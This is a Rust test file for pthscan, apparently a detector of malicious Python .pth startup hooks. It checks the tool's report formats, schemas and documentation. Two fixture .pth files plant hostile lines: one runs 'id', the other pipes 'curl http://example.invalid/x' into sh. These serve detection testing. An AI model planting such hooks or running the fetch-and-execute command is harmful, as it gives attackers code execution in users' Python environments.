//! Snapshots of what users see: every format and `--help`, with temporary paths, the version
//! and timings redacted. Formats are parsed before they are snapshotted.

use std::path::Path;

use super::util::*;

fn redact(text: &str, dir: &Path) -> String {
    let root = std::fs::canonicalize(dir).unwrap();
    text.replace(root.to_str().unwrap(), "[ROOT]")
        .replace(env!("CARGO_PKG_VERSION"), "[VERSION]")
}

fn settings() -> insta::Settings {
    let mut s = insta::Settings::clone_current();
    s.add_filter(r"in \d+\.\d+ s", "in [ELAPSED] s");
    s.add_filter(r#""elapsed_ms": \d+"#, r#""elapsed_ms": "[ELAPSED]""#);
    s.add_filter(r#""host": "[^"]*""#, r#""host": "[HOST]""#);
    s.add_filter(r#""scan_id": "[0-9a-f]{32}""#, r#""scan_id": "[SCAN_ID]""#);
    s.add_filter(
        r#""timestamp": "[0-9TZ:-]{20}""#,
        r#""timestamp": "[TIME]""#,
    );
    // the files' own times (`times`, `born …` in text): when the test made them
    s.add_filter(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z", "[TIME]");
    // which of them a filesystem keeps (a birth time or not), and whether two fall on one
    // second, is the machine's: the times and the timeline are tested in tests/timeline.rs
    s.add_filter(r#""times": \{[^}]*\}"#, r#""times": "[TIMES]""#);
    s.add_filter(
        r#""timeline": \[[\s\S]*?\n  \]"#,
        r#""timeline": "[TIMELINE]""#,
    );
    s.add_filter(
        r"   (born|modified) \[TIME\](, modified \[TIME\])?",
        "   [WHEN]",
    );
    s.set_prepend_module_to_snapshot(false);
    s
}

#[test]
fn text_report_of_a_compromised_venv() {
    let dir = tempfile::tempdir().unwrap();
    materialize(&load_case("litellm-init"), dir.path());
    materialize(&load_case("known-name-changed"), dir.path());
    let out = pthscan(&[dir.path().to_str().unwrap()]);
    assert_eq!(code(&out), 1);
    let text = redact(&String::from_utf8_lossy(&out.stdout), dir.path());
    settings().bind(|| insta::assert_snapshot!("text_compromised_venv", text));
}

#[test]
fn json_report_of_a_compromised_venv() {
    let dir = tempfile::tempdir().unwrap();
    materialize(&load_case("hidden-module"), dir.path());
    let out = pthscan(&[dir.path().to_str().unwrap(), "--format", "json"]);
    let parsed: serde_json::Value = serde_json::from_slice(&out.stdout).expect("valid JSON");
    assert_eq!(parsed["schema_version"], 1);
    for f in parsed["findings"].as_array().unwrap() {
        for key in [
            "rule",
            "severity",
            "location",
            "sha256",
            "environment",
            "message",
            "evidence",
            "runs_on",
        ] {
            assert!(!f[key].is_null(), "finding without `{key}`: {f}");
        }
        assert_eq!(f["sha256"].as_str().unwrap().len(), 64);
    }
    let text = redact(&String::from_utf8_lossy(&out.stdout), dir.path());
    settings().bind(|| insta::assert_snapshot!("json_hidden_module", text));
}

#[test]
fn output_file_gets_the_report_and_stdout_stays_empty() {
    let dir = tempfile::tempdir().unwrap();
    let case = load_case("benign-hooks");
    materialize(&case, dir.path());
    let report = tempfile::tempdir().unwrap();
    let file = report.path().join("r.json");
    let out = pthscan(&[
        dir.path().to_str().unwrap(),
        "--format",
        "json",
        "--output",
        file.to_str().unwrap(),
    ]);
    assert_eq!(code(&out), 0);
    assert!(out.stdout.is_empty());
    let parsed: serde_json::Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    // the case's own expectations: every known-good hook line is one info finding
    let info = case.expect.iter().filter(|e| e.severity == "info").count();
    assert_eq!(parsed["summary"]["findings"]["info"], info);
}

#[test]
fn help() {
    let out = pthscan(&["--help"]);
    assert_eq!(code(&out), 0);
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    settings().bind(|| insta::assert_snapshot!("help", text));
}

/// The JSON Schema users validate against (docs/schema/pthscan.schema.json), compiled.
pub(crate) fn schema() -> jsonschema::Validator {
    let text = std::fs::read_to_string(repo().join("docs/schema/pthscan.schema.json")).unwrap();
    let schema: serde_json::Value = serde_json::from_str(&text).unwrap();
    jsonschema::validator_for(&schema).expect("the schema compiles")
}

pub(crate) fn assert_valid(schema: &jsonschema::Validator, value: &serde_json::Value, what: &str) {
    let errors: Vec<String> = schema
        .iter_errors(value)
        .map(|e| format!("{e} at {}", e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "{what}: {errors:#?}\n{value:#}");
}

#[test]
fn json_and_json_lines_output_validates_against_the_shipped_schema() {
    let schema = schema();
    // every corpus case at once, an artifact, and a whole fake host
    let dir = tempfile::tempdir().unwrap();
    for (i, name) in case_names().iter().enumerate() {
        let sub = dir.path().join(format!("c{i}"));
        materialize(&load_case(name), &sub);
    }
    let host = tempfile::tempdir().unwrap();
    super::host::build_host(host.path());
    let runs: Vec<Vec<String>> = vec![
        vec![dir.path().display().to_string(), "--deep".into()],
        // with --since: the summary says what it kept and left out
        vec![
            "--root".into(),
            host.path().display().to_string(),
            "--since".into(),
            "2000-01-01".into(),
        ],
    ];
    let mut records = 0;
    for args in runs {
        for format in ["json", "jsonl"] {
            let mut a: Vec<&str> = args.iter().map(String::as_str).collect();
            a.extend(["--format", format]);
            let out = pthscan(&a);
            assert!(code(&out) <= 2, "{}", stderr(&out));
            let text = String::from_utf8(out.stdout).unwrap();
            if format == "json" {
                let doc: serde_json::Value = serde_json::from_str(&text).unwrap();
                assert!(!doc["findings"].as_array().unwrap().is_empty());
                assert_valid(&schema, &doc, "document");
            } else {
                let lines: Vec<serde_json::Value> = text
                    .lines()
                    .map(|l| serde_json::from_str(l).unwrap())
                    .collect();
                assert_eq!(lines.last().unwrap()["record"], "summary");
                let ids: std::collections::HashSet<&str> = lines
                    .iter()
                    .map(|l| l["scan_id"].as_str().unwrap())
                    .collect();
                assert_eq!(ids.len(), 1, "one scan id per scan");
                for l in &lines {
                    assert_valid(&schema, l, "record");
                    records += 1;
                }
            }
        }
    }
    assert!(records > 50, "{records}");
    // the schema is no rubber stamp: a finding without a rule, a bad severity are rejected
    let mut broken: serde_json::Value = serde_json::json!({
        "record": "finding", "schema_version": 1, "tool": {"name": "pthscan", "version": "0"},
        "host": "h", "scan_id": "0123456789abcdef0123456789abcdef", "timestamp": "2026-11-22T00:00:00Z",
        "rule": "PTH001", "severity": "high", "location": {"path": "/x.pth", "line": 1},
        "environment": null, "message": "m", "evidence": "", "signals": [], "runs_on": [], "sha256": "",
        "fix": null, "rotate": []
    });
    assert!(schema.is_valid(&broken));
    broken["severity"] = "severe".into();
    assert!(!schema.is_valid(&broken));
    broken["severity"] = "high".into();
    broken.as_object_mut().unwrap().remove("rule");
    assert!(!schema.is_valid(&broken));
}

#[test]
fn suppressed_and_baselined_findings_validate_against_the_shipped_schema() {
    let schema = schema();
    let dir = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    let base = work.path().join("base.json");
    let cfg = work.path().join("policy.toml");
    // the baseline holds the known-name hook; the config accepts one litellm file
    materialize(&load_case("known-name-changed"), dir.path());
    let out = pthscan(&[
        "baseline",
        "-o",
        base.to_str().unwrap(),
        "--accept-findings",
        dir.path().to_str().unwrap(),
    ]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    materialize(&load_case("litellm-init"), dir.path());
    std::fs::write(
        &cfg,
        "[[suppress]]\npath = \"**/zz_telemetry.pth\"\nreason = \"lab sample\"\n",
    )
    .unwrap();
    let flags = [
        dir.path().to_str().unwrap(),
        "--config",
        cfg.to_str().unwrap(),
        "--baseline",
        base.to_str().unwrap(),
    ];
    let mut kinds = std::collections::BTreeSet::new();
    for format in ["json", "jsonl"] {
        let mut args = flags.to_vec();
        args.extend(["--format", format]);
        let out = pthscan(&args);
        assert_eq!(code(&out), 1, "{}", stderr(&out));
        let text = String::from_utf8(out.stdout).unwrap();
        let values: Vec<serde_json::Value> = if format == "json" {
            vec![serde_json::from_str(&text).unwrap()]
        } else {
            text.lines()
                .map(|l| serde_json::from_str(l).unwrap())
                .collect()
        };
        for v in &values {
            assert_valid(&schema, v, format);
            for s in v["suppressed"].as_array().into_iter().flatten() {
                kinds.insert(s["suppression"]["kind"].as_str().unwrap().to_owned());
            }
            if v["record"] == "suppressed" {
                kinds.insert(format!(
                    "record:{}",
                    v["suppression"]["kind"].as_str().unwrap()
                ));
            }
        }
    }
    assert_eq!(
        kinds.into_iter().collect::<Vec<_>>(),
        ["baseline", "config", "record:baseline", "record:config"]
    );
    // the schema holds the line: a suppressed finding without what suppressed it, or a
    // finding record carrying a suppression, is rejected
    let mut record = serde_json::json!({
        "record": "suppressed", "schema_version": 1, "tool": {"name": "pthscan", "version": "0"},
        "host": "h", "scan_id": "0123456789abcdef0123456789abcdef", "timestamp": "2026-11-22T00:00:00Z",
        "rule": "PTH001", "severity": "high", "location": {"path": "/x.pth", "line": 1},
        "environment": null, "message": "m", "evidence": "", "signals": [], "runs_on": [], "sha256": "",
        "fix": null, "rotate": [],
        "suppression": {"kind": "config", "file": "/etc/pthscan/pthscan.toml", "line": 3, "entry": 1, "reason": "r"}
    });
    assert!(schema.is_valid(&record));
    record["record"] = "finding".into();
    assert!(!schema.is_valid(&record));
    record["record"] = "suppressed".into();
    record["suppression"]["line"] = serde_json::Value::Null;
    assert!(!schema.is_valid(&record), "a config entry has a line");
    record.as_object_mut().unwrap().remove("suppression");
    assert!(!schema.is_valid(&record));
}

/// Runs `pthscan` in SARIF on `dir`, with extra arguments.
fn sarif(dir: &Path, extra: &[&str]) -> serde_json::Value {
    let mut args = vec![dir.to_str().unwrap(), "--format", "sarif"];
    args.extend_from_slice(extra);
    let out = pthscan(&args);
    serde_json::from_slice(&out.stdout).expect("SARIF is JSON")
}

#[test]
fn sarif_is_what_code_scanning_takes() {
    let dir = tempfile::tempdir().unwrap();
    materialize(&load_case("litellm-1828-chain"), dir.path());
    materialize(&load_case("customize-forms"), dir.path());
    let first = sarif(dir.path(), &[]);
    assert_eq!(first["version"], "2.1.0");
    let run = &first["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    let results = run["results"].as_array().unwrap();
    assert!(!results.is_empty());
    for r in results {
        let rule = &rules[r["ruleIndex"].as_u64().unwrap() as usize];
        assert_eq!(rule["id"], r["ruleId"]);
        assert!(["error", "warning", "note"].contains(&r["level"].as_str().unwrap()));
        let uri = r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            .as_str()
            .unwrap();
        assert!(uri.starts_with("file:///"), "{uri}");
        assert!(
            r["locations"][0]["physicalLocation"]["region"]["startLine"]
                .as_u64()
                .unwrap()
                >= 1
        );
    }
    for rule in rules {
        let sev: f64 = rule["properties"]["security-severity"]
            .as_str()
            .unwrap()
            .parse()
            .unwrap();
        assert!((0.0..=10.0).contains(&sev));
        assert!(!rule["help"]["text"].as_str().unwrap().is_empty());
        assert_ne!(rule["name"], rule["id"]);
    }
    // a critical finding is an error with security-severity above 9 (GitHub's "critical")
    let critical = results
        .iter()
        .find(|r| r["properties"]["severity"] == "critical")
        .unwrap();
    assert_eq!(critical["level"], "error");
    // fingerprints do not change from one scan to the next; scan ids do
    let second = sarif(dir.path(), &[]);
    let prints = |log: &serde_json::Value| -> Vec<String> {
        log["runs"][0]["results"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| {
                r["partialFingerprints"]["pthscan/v1"]
                    .as_str()
                    .unwrap()
                    .to_owned()
            })
            .collect()
    };
    assert_eq!(prints(&first), prints(&second));
    assert_ne!(
        first["runs"][0]["automationDetails"]["id"],
        second["runs"][0]["automationDetails"]["id"]
    );
    // relative to a source root, and the same fingerprints wherever the tree is checked out
    let rel = sarif(
        dir.path(),
        &["--sarif-srcroot", dir.path().to_str().unwrap()],
    );
    let loc = &rel["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"];
    assert_eq!(loc["uriBaseId"], "SRCROOT");
    assert!(loc["uri"].as_str().unwrap().starts_with("venv/"), "{loc}");
    let moved = tempfile::tempdir().unwrap();
    materialize(&load_case("litellm-1828-chain"), moved.path());
    materialize(&load_case("customize-forms"), moved.path());
    let rel2 = sarif(
        moved.path(),
        &["--sarif-srcroot", moved.path().to_str().unwrap()],
    );
    assert_eq!(prints(&rel), prints(&rel2));

    // Microsoft's SARIF Multitool (.ci/setup installs it from npm)
    {
        let tool = setup_tool(
            "PTHSCAN_SARIF_MULTITOOL",
            "pthscan-npm/node_modules/.bin/sarif-multitool",
        );
        let work = tempfile::tempdir().unwrap();
        let log = work.path().join("pthscan.sarif");
        std::fs::write(&log, serde_json::to_vec_pretty(&first).unwrap()).unwrap();
        let report = work.path().join("validation.sarif");
        let status = std::process::Command::new(tool)
            .arg("validate")
            .arg(&log)
            .arg("--output")
            .arg(&report)
            .status()
            .expect("run sarif-multitool");
        assert!(status.success(), "sarif-multitool failed");
        let v: serde_json::Value =
            serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
        let problems: Vec<&serde_json::Value> = v["runs"][0]["results"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|r| r["level"] == "error" || r["level"].is_null())
            .collect();
        assert!(problems.is_empty(), "{problems:#?}");
    }
}

#[test]
fn output_to_a_fifo_or_a_symlink_writes_through_it_and_keeps_it() {
    use std::os::unix::fs::FileTypeExt;
    let dir = tempfile::tempdir().unwrap();
    let sp = dir.path().join("venv/lib/python3.12/site-packages");
    std::fs::create_dir_all(&sp).unwrap();
    std::fs::write(sp.join("zz.pth"), "import os; os.system('id')\n").unwrap();
    let root = dir.path().join("venv");
    let root = root.to_str().unwrap();
    // a FIFO (as /dev/null or /dev/stdout would be): written in place, never renamed over
    let fifo = dir.path().join("report.fifo");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::read(fifo).unwrap())
    };
    let out = pthscan(&[root, "--format", "json", "-o", fifo.to_str().unwrap()]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    // checked before joining: had it been renamed over, the reader would wait forever
    let kind = std::fs::symlink_metadata(&fifo).unwrap().file_type();
    assert!(kind.is_fifo(), "{kind:?}");
    let got: serde_json::Value = serde_json::from_slice(&reader.join().unwrap()).unwrap();
    assert_eq!(got["findings"][0]["rule"], "PTH001", "{got:#}");
    // a symlink to a report: the file it names is replaced, the link and its mode stay
    let real = dir.path().join("real.json");
    std::fs::write(&real, "old").unwrap();
    std::fs::set_permissions(&real, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    let link = dir.path().join("link.json");
    std::os::unix::fs::symlink(&real, &link).unwrap();
    let out = pthscan(&[root, "--format", "json", "-o", link.to_str().unwrap()]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(std::fs::symlink_metadata(&link).unwrap().is_symlink());
    let got: serde_json::Value = serde_json::from_slice(&std::fs::read(&real).unwrap()).unwrap();
    assert_eq!(got["findings"][0]["rule"], "PTH001", "{got:#}");
    let mode =
        std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&real).unwrap().permissions());
    assert_eq!(mode & 0o777, 0o644);
}

/// A venv with two distributions, one owning an executable `.pth`, and a stray hook.
fn planted_for_cyclonedx(dir: &Path) {
    let sp = super::venv(dir);
    super::dist_info(&sp, "Clean_Lib", &["clean_lib/__init__.py,,\n".into()]);
    std::fs::create_dir_all(sp.join("clean_lib")).unwrap();
    std::fs::write(sp.join("clean_lib/__init__.py"), "").unwrap();
    std::fs::write(sp.join("Clean_Lib-1.0.dist-info/INSTALLER"), "uv\n").unwrap();
    super::dist_info(&sp, "hooked", &["hooked_init.pth,,\n".into()]);
    std::fs::write(
        sp.join("hooked_init.pth"),
        "import os; os.system('curl http://example.invalid/x | sh')\n",
    )
    .unwrap();
    std::fs::write(sp.join("stray.pth"), "import this_is_not_here\n").unwrap();
}

#[test]
fn cyclonedx_nests_distributions_in_their_environment() {
    let dir = tempfile::tempdir().unwrap();
    planted_for_cyclonedx(dir.path());
    let out = pthscan(&[dir.path().to_str().unwrap(), "--format", "cyclonedx"]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let bom: serde_json::Value = serde_json::from_slice(&out.stdout).expect("valid JSON");
    assert_eq!(bom["bomFormat"], "CycloneDX");
    assert_eq!(bom["specVersion"], "1.6");
    let envs = bom["components"].as_array().unwrap();
    assert_eq!(envs.len(), 1);
    let libs = envs[0]["components"].as_array().unwrap();
    let purls: Vec<&str> = libs.iter().map(|l| l["purl"].as_str().unwrap()).collect();
    assert_eq!(purls, ["pkg:pypi/clean-lib@1.0", "pkg:pypi/hooked@1.0"]);
    let props = |c: &serde_json::Value, name: &str| -> Vec<String> {
        c["properties"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|p| p["name"] == name)
            .map(|p| p["value"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(props(&libs[0], "pthscan:installer"), ["uv"]);
    assert!(props(&libs[0], "pthscan:finding").is_empty());
    assert_eq!(libs[1]["hashes"][0]["alg"], "SHA-256");
    assert!(props(&libs[1], "pthscan:hook")[0].ends_with("/hooked_init.pth"));
    assert!(
        props(&libs[1], "pthscan:finding")
            .iter()
            .any(|f| f.starts_with("PTH001 high "))
    );
    // the hook no distribution owns stays with its environment
    assert!(
        props(&envs[0], "pthscan:hook")
            .iter()
            .any(|h| h.ends_with("/stray.pth"))
    );
    // bom-refs are unique in the document
    let mut refs = vec![bom["metadata"]["component"]["bom-ref"].as_str().unwrap()];
    refs.extend(envs.iter().map(|e| e["bom-ref"].as_str().unwrap()));
    refs.extend(libs.iter().map(|l| l["bom-ref"].as_str().unwrap()));
    let n = refs.len();
    refs.sort();
    refs.dedup();
    assert_eq!(refs.len(), n);
    let text = redact(&String::from_utf8_lossy(&out.stdout), dir.path());
    let mut s = settings();
    s.add_filter(
        r#""serialNumber": "urn:uuid:[0-9a-f-]{36}""#,
        r#""serialNumber": "[SERIAL]""#,
    );
    s.add_filter(r#""value": "[0-9a-f]{32}""#, r#""value": "[SCAN_ID]""#);
    s.bind(|| insta::assert_snapshot!("cyclonedx_planted_venv", text));
}

#[test]
fn cyclonedx_output_validates_with_cyclonedx_python_lib() {
    // CycloneDX's own library, in the Python .ci/setup installs it into
    let python = setup_tool("PTHSCAN_CYCLONEDX_PYTHON", "pthscan-pytools/bin/python");
    let dir = tempfile::tempdir().unwrap();
    planted_for_cyclonedx(dir.path());
    materialize(&load_case("litellm-init"), dir.path());
    let bom = dir.path().join("bom.json");
    let out = pthscan(&[
        dir.path().to_str().unwrap(),
        "--format",
        "cyclonedx",
        "-o",
        bom.to_str().unwrap(),
    ]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let run = std::process::Command::new(&python)
        .arg(repo().join("tests/cyclonedx_validate.py"))
        .arg(&bom)
        .output();
    let run = run.unwrap();
    assert_ne!(
        run.status.code(),
        Some(3),
        "the CycloneDX library is missing (run .ci/setup): {}",
        String::from_utf8_lossy(&run.stderr)
    );
    assert!(
        run.status.success(),
        "{}{}",
        String::from_utf8_lossy(&run.stdout),
        String::from_utf8_lossy(&run.stderr)
    );
}

/// The README's "What you get" sample is the real text report of a planted venv, with the test
/// bed's path shown as `/srv/app/.venv` and times left out: this test keeps it in step
/// (`PTHSCAN_UPDATE_README=1` rewrites the sample from the output).
#[test]
fn readme_sample_is_real_output() {
    let dir = tempfile::tempdir().unwrap();
    materialize(&load_case("litellm-init"), dir.path());
    materialize(&load_case("known-name-changed"), dir.path());
    let venv = dir.path().join("venv");
    let out = pthscan(&[venv.to_str().unwrap()]);
    assert_eq!(code(&out), 1);
    let root = std::fs::canonicalize(dir.path()).unwrap();
    let text = String::from_utf8_lossy(&out.stdout)
        .replace(&format!("{}/venv", root.display()), "/srv/app/.venv")
        .replace(env!("CARGO_PKG_VERSION"), "0.1.0");
    // the volatile parts: the scan's duration, the files' times (last on their line)
    let text: String = text
        .lines()
        .map(|line| {
            let line = match (line.starts_with("summary: "), line.rfind(" in ")) {
                (true, Some(at)) => format!("{} in 0.01 s", &line[..at]),
                _ => line.to_owned(),
            };
            let cut = ["   born ", "   modified ", "born ", "modified "]
                .iter()
                .filter_map(|w| line.find(w).filter(|&at| w.starts_with(' ') || at == 11))
                .min();
            match cut {
                // a line that held only times goes
                Some(at) if line[..at].trim().is_empty() => String::new(),
                Some(at) => format!("{}\n", line[..at].trim_end()),
                None => format!("{line}\n"),
            }
        })
        .collect();
    let sample = format!("$ pthscan /srv/app/.venv\n{text}");
    let readme_path = repo().join("README.md");
    let readme = std::fs::read_to_string(&readme_path).unwrap();
    let start = readme
        .find("## What you get\n\n```text\n")
        .expect("the section")
        + "## What you get\n\n```text\n".len();
    let end = start + readme[start..].find("```\n").expect("its end");
    if std::env::var_os("PTHSCAN_UPDATE_README").is_some() {
        let updated = format!("{}{sample}{}", &readme[..start], &readme[end..]);
        std::fs::write(&readme_path, updated).unwrap();
        return;
    }
    assert_eq!(
        readme[start..end],
        sample,
        "README.md's sample has drifted from the real output; run with PTHSCAN_UPDATE_README=1"
    );
}

/// GitHub's anchor of a Markdown heading: lower case, punctuation dropped, spaces to `-`.
fn anchor(heading: &str) -> String {
    heading
        .trim()
        .to_lowercase()
        .chars()
        .filter(|c| c.is_alphanumeric() || matches!(c, ' ' | '-' | '_'))
        .map(|c| if c == ' ' { '-' } else { c })
        .collect()
}

/// Whether `pointer` (`docs/x.md#anchor`, `README.md#anchor`, a path) names a file of the
/// repository and, with an anchor, one of its headings.
fn resolves(pointer: &str) -> Result<(), String> {
    let (path, fragment) = pointer.split_once('#').unwrap_or((pointer, ""));
    let text = std::fs::read_to_string(repo().join(path)).map_err(|e| format!("`{path}`: {e}"))?;
    if fragment.is_empty() {
        return Ok(());
    }
    let anchors: Vec<String> = text
        .lines()
        .filter_map(|l| l.strip_prefix('#'))
        .map(|l| anchor(l.trim_start_matches('#')))
        .collect();
    match anchors.iter().any(|a| a == fragment) {
        true => Ok(()),
        false => Err(format!("`{path}` has no heading `#{fragment}`")),
    }
}

/// Every reference of every rule — detectors, payload rules, behaviour rules, IOCs, signals —
/// points somewhere a user can follow: a page and heading of this repository, or an https
/// URL; none names a file that is not shipped (`THREATS.md`) or an issue of our tracker.
#[test]
fn every_rule_reference_resolves() {
    let sigs = pthscan_signatures::Signatures::load(&[]).unwrap();
    let mut all: Vec<(String, Vec<String>)> = pthscan::planted::rules()
        .iter()
        .map(|r| {
            (
                r.id.to_owned(),
                r.references.iter().map(|s| s.to_string()).collect(),
            )
        })
        .collect();
    let one = |id: &str, r: &str| (id.to_owned(), vec![r.to_owned()]);
    all.extend(sigs.payload.all().iter().map(|r| one(&r.id, &r.reference)));
    all.extend(
        sigs.behaviours
            .rules()
            .iter()
            .map(|b| one(&b.id, &b.reference)),
    );
    all.extend(sigs.iocs.files.iter().map(|f| one(&f.id, &f.reference)));
    all.extend(sigs.iocs.network.iter().map(|f| one(&f.id, &f.reference)));
    all.extend(sigs.iocs.paths.iter().map(|f| one(&f.id, &f.reference)));
    all.extend(sigs.iocs.processes.iter().map(|f| one(&f.id, &f.reference)));
    all.extend(sigs.signals.docs().iter().map(|s| one(&s.id, &s.reference)));
    let mut bad = Vec::new();
    for (id, refs) in &all {
        let mut followed = 0;
        for r in refs {
            if r.contains("THREATS.md") || r.split_whitespace().any(|w| w == "issue") {
                bad.push(format!("{id}: `{r}` names no shipped page"));
            }
            for word in r.split([' ', ';', ',', '(', ')']) {
                let word = word.trim_end_matches(['.', ':']);
                if word.starts_with("https://") {
                    followed += 1;
                } else if word.starts_with("docs/") || word.starts_with("README.md") {
                    match resolves(word) {
                        Ok(()) => followed += 1,
                        Err(e) => bad.push(format!("{id}: {e}")),
                    }
                }
            }
        }
        if followed == 0 {
            bad.push(format!("{id}: no reference a user can follow in {refs:?}"));
        }
    }
    assert!(bad.is_empty(), "{bad:#?}");
}

/// `--min-severity` hides lower findings from the text report and SARIF, says how many in the
/// summary, and changes neither the exit code, the JSON listing nor its counts.
#[test]
fn min_severity_hides_from_the_display_only() {
    let dir = tempfile::tempdir().unwrap();
    materialize(&load_case("litellm-init"), dir.path());
    materialize(&load_case("known-name-changed"), dir.path());
    let path = dir.path().to_str().unwrap();
    let all = String::from_utf8_lossy(&pthscan(&[path]).stdout).into_owned();
    assert!(all.contains("  INFO "), "{all}");
    let out = pthscan(&["--min-severity", "high", path]);
    assert_eq!(code(&out), 1);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        !text.contains("  INFO ") && !text.contains(" MEDIUM "),
        "{text}"
    );
    assert!(text.contains("CRITICAL"), "{text}");
    assert!(
        text.contains("(hidden by --min-severity: 2 medium, 1 info)"),
        "{text}"
    );
    // the counts stay whole
    assert!(
        text.contains("4 critical, 3 high, 2 medium, 0 low, 1 info"),
        "{text}"
    );
    let json: serde_json::Value = serde_json::from_slice(
        &pthscan(&["--min-severity", "high", "--format", "json", path]).stdout,
    )
    .unwrap();
    let findings = json["findings"].as_array().unwrap();
    assert!(findings.iter().any(|f| f["severity"] == "info"));
    // every finding says what to do; a known-good hook says nothing
    for f in findings {
        match f["severity"].as_str().unwrap() {
            "info" => assert!(f["fix"].is_null(), "{f}"),
            _ => assert!(f["fix"].as_str().is_some_and(|t| !t.is_empty()), "{f}"),
        }
    }
    let sarif = sarif(dir.path(), &["--min-severity", "high"]);
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    assert!(results.iter().all(|r| r["level"] == "error"), "{results:?}");
    let rule = &sarif["runs"][0]["tool"]["driver"]["rules"][0];
    assert!(
        rule["help"]["text"]
            .as_str()
            .unwrap()
            .contains("What to do"),
        "{rule}"
    );
    assert!(
        results[0]["properties"]["fix"].is_string(),
        "{}",
        results[0]
    );
}

#[test]
fn the_bench_environment_passes_and_its_cyclonedx_validates() {
    // 214 popular projects installed from wheels (benches/bench-requirements.txt, 2.5 GB), which
    // .ci/setup builds: nothing at medium or above (typosquat, database, hook and integrity
    // rules over honest software), and an inventory CycloneDX's own library accepts
    let env = setup_tool("PTHSCAN_BENCH_ENV", "pthscan-bench/big");
    let python = setup_tool("PTHSCAN_CYCLONEDX_PYTHON", "pthscan-pytools/bin/python");
    let dir = tempfile::tempdir().unwrap();
    let bom = dir.path().join("bom.json");
    let out = pthscan(&[
        env.to_str().unwrap(),
        "--format",
        "cyclonedx",
        "-o",
        bom.to_str().unwrap(),
        "--fail-on",
        "medium",
    ]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let doc: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&bom).unwrap()).unwrap();
    let environments = doc["components"].as_array().unwrap();
    assert_eq!(environments.len(), 1, "{doc:#}");
    let pinned = std::fs::read_to_string(repo().join("benches/bench-requirements.txt"))
        .unwrap()
        .lines()
        .filter(|l| l.contains("=="))
        .count();
    assert_eq!(
        environments[0]["components"].as_array().unwrap().len(),
        pinned
    );
    let run = std::process::Command::new(&python)
        .arg(repo().join("tests/cyclonedx_validate.py"))
        .arg(&bom)
        .output()
        .unwrap();
    assert!(
        run.status.success(),
        "{}{}",
        String::from_utf8_lossy(&run.stdout),
        String::from_utf8_lossy(&run.stderr)
    );
}
